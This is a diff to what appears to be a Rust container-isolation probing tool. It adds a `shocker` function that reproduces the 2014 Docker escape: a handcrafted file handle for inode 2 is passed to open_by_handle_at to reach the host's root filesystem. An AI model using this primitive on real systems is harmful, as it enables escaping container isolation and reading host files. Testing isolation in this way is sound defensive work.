@@ -266,6 +266,24 @@ pub(crate) fn mknod(path: &str, kind: &str, major: &str, minor: &str) -> Outcome
     ))
 }
 
+/// Opens the root directory of the file system that a file is on by its number,
+/// past every directory in between: `shocker`, the attack on Docker of 2014.
+pub(crate) fn shocker(file: &str) -> Outcome {
+    let open = fs::File::open(file).map_err(|error| format!("{file}: {error}"))?;
+    // struct file_handle: eight bytes, of the type that has inode and generation.
+    let mut handle = [0u8; 16];
+    handle[0] = 8;
+    handle[4] = 1;
+    handle[8] = 2;
+    let fd = raw::fd_arg(std::os::fd::AsRawFd::as_raw_fd(&open));
+    print_call(raw::call_with(
+        Sysno::open_by_handle_at,
+        [fd, 0, 0, 0, 0, 0],
+        1,
+        &mut handle,
+    ))
+}
+
 /// What a hook of a vendor does: mounts something into the container's root.
 pub(crate) fn mount_tmpfs(dir: &str) -> Outcome {
     let mut kind = c_string("tmpfs")?;
